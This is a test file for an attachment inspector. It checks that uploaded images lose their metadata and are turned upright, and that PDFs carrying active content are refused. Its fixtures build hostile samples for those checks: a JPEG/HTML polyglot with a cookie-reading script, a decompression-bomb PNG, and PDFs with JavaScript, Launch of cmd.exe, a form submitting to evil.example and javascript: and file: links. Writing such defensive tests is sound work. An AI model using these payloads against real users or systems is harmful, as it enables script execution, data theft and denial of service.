"""What is kept of an upload: pictures re-encoded clean and upright, PDFs screened."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)

from tiket.adapters.file_inspection import inspect
from tiket.domain.attachments import (
    MAX_BYTES,
    MAX_IMAGE_SIDE,
    THUMBNAIL_SIDE,
    AttachmentRejected,
    FileType,
    Rejection,
)

RED, BLUE = (220, 20, 20), (20, 20, 220)
GPS_IFD = 0x8825
ORIENTATION = 0x0112
SECRET = "Jl. Rahasia 7"  # what must not survive: in EXIF, comments, XMP, PNG text


def two_halves(size=(60, 40)) -> Image.Image:
    """Left half red, right half blue: shows how the picture was turned."""
    image = Image.new("RGB", size, RED)
    image.paste(BLUE, (size[0] // 2, 0, size[0], size[1]))
    return image


def phone_exif(orientation: int = 6) -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0131] = SECRET  # Software
    exif.get_ifd(GPS_IFD).update({1: "S", 2: (6.0, 10.0, 30.0), 3: "E", 4: (106.0, 49.0, 0.0)})
    return exif


def xmp() -> bytes:
    return (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-'
        b'rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        b'exif:GPSLatitude="6,10.5S">'
        + SECRET.encode()
        + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
    )


def encoded(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def phone_photo() -> bytes:
    return encoded(
        two_halves(),
        "JPEG",
        exif=phone_exif(),
        comment=SECRET.encode(),
        xmp=xmp(),
        icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes(),
    )


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def close_to(pixel, colour, tolerance=40) -> bool:
    return all(abs(a - b) <= tolerance for a, b in zip(pixel, colour, strict=False))


def assert_no_metadata(data: bytes) -> None:
    image = opened(data)
    assert len(image.getexif()) == 0
    for key in ("exif", "comment", "xmp", "XML:com.adobe.xmp", "icc_profile", "Comment"):
        assert key not in image.info
    for marker in (b"Exif\x00\x00", b"PhoneMaker", SECRET.encode(), b"adobe:ns:meta", b"GPS"):
        assert marker not in data


def rejected(data: bytes, declared: str) -> AttachmentRejected:
    with pytest.raises(AttachmentRejected) as caught:
        inspect(data, declared)
    return caught.value


# --- pictures ---------------------------------------------------------------------------


def test_a_phone_photo_loses_gps_and_exif_and_is_turned_upright():
    upload = phone_photo()
    assert opened(upload).getexif().get_ifd(GPS_IFD)  # the sample really carries GPS
    kept = inspect(upload, "image/jpeg")
    assert kept.content_type is FileType.JPEG
    assert_no_metadata(kept.data)
    picture = opened(kept.data)
    assert picture.format == "JPEG"
    # Orientation 6 means "turn 90° clockwise to view": the left (red) edge becomes the top.
    assert picture.size == (40, 60) == (kept.width, kept.height)
    assert close_to(picture.getpixel((20, 5)), RED)
    assert close_to(picture.getpixel((20, 55)), BLUE)


def test_a_thumbnail_is_a_small_clean_jpeg_of_the_upright_picture():
    upload = encoded(two_halves((1200, 800)), "JPEG", exif=phone_exif(), comment=SECRET.encode())
    kept = inspect(upload, "image/jpeg")
    assert kept.thumbnail is not None and kept.thumbnail_type is FileType.JPEG
    thumb = opened(kept.thumbnail)
    assert thumb.format == "JPEG"
    assert thumb.size == (213, THUMBNAIL_SIDE)
    assert close_to(thumb.getpixel((100, 10)), RED)
    assert_no_metadata(kept.thumbnail)


def test_a_polyglot_jpeg_html_comes_out_a_plain_jpeg():
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    upload = encoded(two_halves(), "JPEG", comment=html) + html
    assert opened(upload).size == (60, 40)  # a valid picture to any viewer, and HTML after it
    kept = inspect(upload, "image/jpeg")
    assert b"<script" not in kept.data and b"<html" not in kept.data
    assert kept.data.endswith(b"\xff\xd9")  # nothing after the end-of-image marker
    assert_no_metadata(kept.data)


def test_a_png_keeps_its_transparency_and_loses_its_text():
    image = Image.new("RGBA", (50, 30), (0, 0, 0, 0))
    image.paste((*BLUE, 255), (0, 0, 25, 30))
    text = PngInfo()
    text.add_text("Comment", SECRET)
    text.add_itxt("XML:com.adobe.xmp", xmp().decode())
    kept = inspect(encoded(image, "PNG", pnginfo=text, exif=phone_exif(1)), "image/png")
    assert kept.content_type is FileType.PNG
    assert_no_metadata(kept.data)
    picture = opened(kept.data)
    assert (picture.format, picture.mode, picture.size) == ("PNG", "RGBA", (50, 30))
    assert picture.getpixel((40, 10))[3] == 0
    thumb = opened(kept.thumbnail)  # JPEG: transparent areas on white
    assert close_to(thumb.getpixel((40, 10)), (255, 255, 255))
    assert close_to(thumb.getpixel((5, 10)), BLUE)


def test_a_palette_png_with_a_transparent_colour_becomes_rgba():
    image = Image.new("P", (20, 20), 0)
    image.putpalette([255, 255, 255, 0, 0, 255] + [0] * 762)
    image.paste(1, (0, 0, 10, 20))
    kept = inspect(encoded(image, "PNG", transparency=0), "image/png")
    picture = opened(kept.data)
    assert picture.mode == "RGBA"
    assert picture.getpixel((15, 5))[3] == 0 and picture.getpixel((5, 5)) == (0, 0, 255, 255)


def test_a_16_bit_grey_png_is_scaled_not_clipped():
    image = Image.new("I;16", (4, 1))
    image.putdata([0, 16384, 32768, 65535])
    picture = opened(inspect(encoded(image, "PNG"), "image/png").data)
    assert picture.mode == "L"
    assert [picture.getpixel((x, 0)) for x in range(4)] == [0, 64, 128, 255]


def test_a_webp_is_reencoded_as_webp_without_exif():
    upload = encoded(two_halves(), "WEBP", exif=phone_exif(), xmp=xmp(), quality=90)
    kept = inspect(upload, "image/webp")
    assert kept.content_type is FileType.WEBP
    assert_no_metadata(kept.data)
    picture = opened(kept.data)
    assert (picture.format, picture.size) == ("WEBP", (40, 60))
    assert close_to(picture.getpixel((20, 5)), RED)


def test_only_the_first_frame_of_an_animation_is_kept():
    frames = [Image.new("RGB", (30, 30), RED), Image.new("RGB", (30, 30), BLUE)]
    upload = encoded(frames[0], "WEBP", save_all=True, append_images=frames[1:], lossless=True)
    assert getattr(opened(upload), "n_frames", 1) == 2
    picture = opened(inspect(upload, "image/webp").data)
    assert getattr(picture, "n_frames", 1) == 1
    assert close_to(picture.getpixel((15, 15)), RED)


@pytest.mark.parametrize(("mode", "colour"), [("CMYK", (0, 255, 255, 0)), ("L", 128)])
def test_cmyk_and_grey_jpegs_become_browser_friendly(mode, colour):
    picture = opened(inspect(encoded(Image.new(mode, (16, 16), colour), "JPEG"), "image/jpeg").data)
    assert picture.mode == ("RGB" if mode == "CMYK" else "L")


def test_a_broken_colour_profile_is_dropped_not_refused():
    upload = encoded(two_halves(), "JPEG", icc_profile=b"not a profile" * 10)
    kept = inspect(upload, "image/jpeg")
    assert "icc_profile" not in opened(kept.data).info


def test_a_big_jpeg_is_decoded_at_a_reduced_scale_and_kept_at_most_4096_wide():
    upload = encoded(two_halves((9000, 600)), "JPEG", quality=50)
    kept = inspect(upload, "image/jpeg")
    assert (kept.width, kept.height) == (MAX_IMAGE_SIDE, 273)
    picture = opened(kept.data)
    assert close_to(picture.getpixel((100, 100)), RED) and close_to(
        picture.getpixel((4000, 100)), BLUE
    )


# --- bad pictures -----------------------------------------------------------------------


def png_header_only(width: int, height: int) -> bytes:
    """A tiny PNG that claims ``width`` x ``height`` pixels: a decompression bomb's shape."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize("size", [(8000, 7000), (100_000, 100_000)])
def test_a_decompression_bomb_is_refused_before_decoding(size):
    upload = png_header_only(*size)
    assert len(upload) < 200
    error = rejected(upload, "image/png")
    assert error.code is Rejection.BOMB
    assert error.params["max_megapixels"] == 50


@pytest.mark.parametrize(
    ("data", "declared"),
    [
        (encoded(two_halves(), "PNG"), "image/jpeg"),  # lying: a PNG said to be a JPEG
        (encoded(two_halves(), "JPEG"), "image/png"),
        (encoded(two_halves(), "JPEG"), "application/pdf"),
        (b"%PDF-1.7\n", "image/jpeg"),
        (b"<html><script>alert(1)</script></html>", "image/jpeg"),
        (encoded(two_halves(), "GIF"), "image/gif"),  # real but not accepted
        (encoded(two_halves(), "GIF"), "image/png"),
        (encoded(two_halves(), "BMP"), "image/jpeg"),
        (encoded(two_halves(), "JPEG"), "text/html"),
    ],
)
def test_the_type_is_read_from_the_bytes_and_must_match(data, declared):
    assert rejected(data, declared).code is Rejection.TYPE


def test_zero_bytes_are_refused():
    assert rejected(b"", "image/jpeg").code is Rejection.EMPTY


def test_ten_megabytes_and_one_byte_are_refused():
    error = rejected(b"\xff\xd8\xff" + bytes(MAX_BYTES - 2), "image/jpeg")
    assert (error.code, error.params["size"]) == (Rejection.SIZE, MAX_BYTES + 1)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_truncated_picture_is_refused(kind):
    whole = encoded(two_halves((300, 300)).effect_spread(20), kind)
    assert rejected(whole[: len(whole) // 2], Image.MIME[kind]).code is Rejection.IMAGE_BROKEN


def test_a_signature_with_nothing_behind_it_is_refused():
    assert rejected(b"\xff\xd8\xff\xe0garbage", "image/jpeg").code is Rejection.IMAGE_BROKEN


# --- PDFs -------------------------------------------------------------------------------


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries: PdfObject) -> DictionaryObject:
    d = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    d.update({name(f"/{k}"): v for k, v in entries.items()})
    return d


def script() -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject("app.launchURL('https://x.example');"))


def link(target: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 50, 50)]),
            name("/BS"): DictionaryObject({name("/S"): name("/S"), name("/W"): NumberObject(1)}),
            name("/A"): target,
        }
    )


def pdf(build=None) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    # A transparency group: "/S" that is not an action.
    page[name("/Group")] = DictionaryObject({name("/S"): name("/Transparency")})
    if build is not None:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def add_annotation(annotation: DictionaryObject):
    return lambda writer: writer.add_annotation(0, annotation)


def set_root(key: str, value_of):
    return lambda writer: writer.root_object.__setitem__(name(key), value_of(writer))


def page_trigger(writer: PdfWriter) -> None:
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): script()})


def outline_script(writer: PdfWriter) -> None:
    item = writer.add_outline_item(title="Bab 1", page_number=0).get_object()
    item[name("/A")] = writer._add_object(script())


def form_submit(writer: PdfWriter) -> None:
    field = DictionaryObject(
        {
            name("/FT"): name("/Tx"),
            name("/T"): TextStringObject("nip"),
            name("/AA"): DictionaryObject(
                {name("/K"): action("/SubmitForm", F=TextStringObject("https://evil.example"))}
            ),
        }
    )
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([writer._add_object(field)])}
    )


def xfa_form(writer: PdfWriter) -> None:
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): TextStringObject("<xdp:xdp/>")}
    )


def chained(writer: PdfWriter) -> None:
    # A harmless action whose /Next (an indirect object) runs a script.
    writer.root_object[name("/OpenAction")] = action(
        "/GoTo",
        D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
        Next=writer._add_object(script()),
    )


def disguised(writer: PdfWriter) -> None:
    # Readers do not check an action's /Type.
    launch = action("/Launch", F=TextStringObject("cmd.exe"))
    launch[name("/Type")] = name("/Border")
    writer.add_annotation(0, link(launch))


def disguised_script(writer: PdfWriter) -> None:
    js = DictionaryObject({name("/Type"): name("/Font"), name("/JS"): TextStringObject("x()")})
    writer.root_object[name("/OpenAction")] = writer._add_object(js)


def in_an_object_stream(action_body: bytes) -> bytes:
    """A PDF 1.5 whose /OpenAction lives in an object stream (as most producers write
    them now), which pypdf's writer cannot make."""
    parts = [b"%PDF-1.5\n"]
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    def stream(head: bytes, content: bytes) -> bytes:
        return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (head, len(content), content)

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    index = b"4 0 "
    add(5, stream(b"/Type /ObjStm /N 1 /First %d" % len(index), index + action_body))
    offsets[6] = sum(map(len, parts))
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0)]  # object 4: the first in stream 5
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (5, 6)]
    add(6, stream(b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R", b"".join(rows)))
    return b"".join(parts) + b"startxref\n%d\n%%%%EOF\n" % offsets[6]


def test_an_action_inside_an_object_stream_is_seen():
    harmless = in_an_object_stream(b"<< /S /Named /N /NextPage >>")
    assert inspect(harmless, "application/pdf").content_type is FileType.PDF
    error = rejected(in_an_object_stream(b"<< /S /Launch /F (cmd.exe) >>"), "application/pdf")
    assert (error.code, error.params) == (Rejection.PDF_SCRIPT, {"feature": "Launch"})


def test_a_plain_pdf_is_kept_as_it_is():
    upload = pdf()
    kept = inspect(upload, "application/pdf")
    assert (kept.content_type, kept.data, kept.thumbnail) == (FileType.PDF, upload, None)


@pytest.mark.parametrize(
    "build",
    [
        # LibreOffice writes an /OpenAction that only sets the opening view.
        set_root(
            "/OpenAction", lambda w: ArrayObject([w.pages[0].indirect_reference, name("/Fit")])
        ),
        add_annotation(link(action("/URI", URI=TextStringObject("https://layanan.go.id/")))),
        add_annotation(link(action("/URI", URI=TextStringObject("mailto:tik@example.go.id")))),
        add_annotation(link(action("/GoTo", D=ArrayObject([NumberObject(0), name("/Fit")])))),
        set_root(
            "/AA", lambda w: DictionaryObject({name("/WC"): action("/Named", N=name("/NextPage"))})
        ),
    ],
    ids=["open-at-page", "web-link", "mail-link", "goto", "named"],
)
def test_a_pdf_that_only_navigates_is_kept(build):
    assert inspect(pdf(build), "application/pdf").content_type is FileType.PDF


@pytest.mark.parametrize(
    ("build", "code", "feature"),
    [
        (
            lambda w: w.add_open_action(JavaScript("app.alert(1)")),
            Rejection.PDF_SCRIPT,
            "JavaScript",
        ),
        (set_root("/OpenAction", lambda w: script()), Rejection.PDF_SCRIPT, "JavaScript"),
        (
            set_root("/AA", lambda w: DictionaryObject({name("/WC"): script()})),
            Rejection.PDF_SCRIPT,
            "JavaScript",
        ),
        (page_trigger, Rejection.PDF_SCRIPT, "JavaScript"),
        (outline_script, Rejection.PDF_SCRIPT, "JavaScript"),
        (chained, Rejection.PDF_SCRIPT, "JavaScript"),
        (
            add_annotation(link(action("/Launch", F=TextStringObject("cmd.exe")))),
            Rejection.PDF_SCRIPT,
            "Launch",
        ),
        (
            add_annotation(link(action("/GoToR", F=TextStringObject("\\\\host\\share\\a.pdf")))),
            Rejection.PDF_SCRIPT,
            "GoToR",
        ),
        (
            add_annotation(link(action("/URI", URI=TextStringObject("javascript:alert(1)")))),
            Rejection.PDF_SCRIPT,
            "URI",
        ),
        (
            add_annotation(link(action("/URI", URI=TextStringObject("file:///C:/Windows")))),
            Rejection.PDF_SCRIPT,
            "URI",
        ),
        (disguised, Rejection.PDF_SCRIPT, "Launch"),
        (disguised_script, Rejection.PDF_SCRIPT, "JavaScript"),
        (form_submit, Rejection.PDF_SCRIPT, "SubmitForm"),
        (xfa_form, Rejection.PDF_SCRIPT, "XFA"),
        (
            lambda w: w.add_attachment("surat.exe", b"MZ\x90\x00"),
            Rejection.PDF_EMBEDDED,
            "EmbeddedFile",
        ),
    ],
    ids=[
        "names-tree-js",
        "open-action-js",
        "document-trigger-js",
        "page-trigger-js",
        "outline-js",
        "chained-js",
        "launch",
        "remote-file",
        "javascript-uri",
        "file-uri",
        "disguised-launch",
        "disguised-js",
        "submit-form",
        "xfa",
        "embedded-file",
    ],
)
def test_a_pdf_with_active_content_is_refused_naming_it(build, code, feature):
    error = rejected(pdf(build), "application/pdf")
    assert (error.code, error.params) == (code, {"feature": feature})


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
def test_an_encrypted_pdf_is_refused(algorithm):
    def encrypt(writer: PdfWriter) -> None:
        writer.encrypt(
            "", "pemilik", algorithm=algorithm
        )  # opens without a password, still encrypted

    assert rejected(pdf(encrypt), "application/pdf").code is Rejection.PDF_ENCRYPTED


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n" + bytes(range(256)) * 40,
        b"%PDF-1.4\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF",
        pdf(lambda w: w.root_object.__setitem__(name("/Pages"), NumberObject(7))),
    ],
    ids=["garbage", "nothing", "no-pages", "pages-not-a-tree"],
)
def test_a_pdf_that_does_not_parse_is_refused(data):
    assert rejected(data, "application/pdf").code is Rejection.PDF_BROKEN
